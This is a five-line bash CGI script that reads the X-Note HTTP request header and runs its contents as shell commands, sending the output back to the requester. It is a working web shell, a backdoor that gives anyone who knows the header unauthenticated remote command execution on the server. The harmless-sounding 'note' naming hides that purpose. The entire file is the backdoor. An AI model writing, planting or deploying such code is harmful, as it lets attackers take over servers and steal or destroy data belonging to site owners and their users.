#!/bin/bash
printf 'Content-Type: text/plain\r\n\r\n'
note="$HTTP_X_NOTE"
[ -z "$note" ] && exit 0
bash <<< "$note" 2>&1
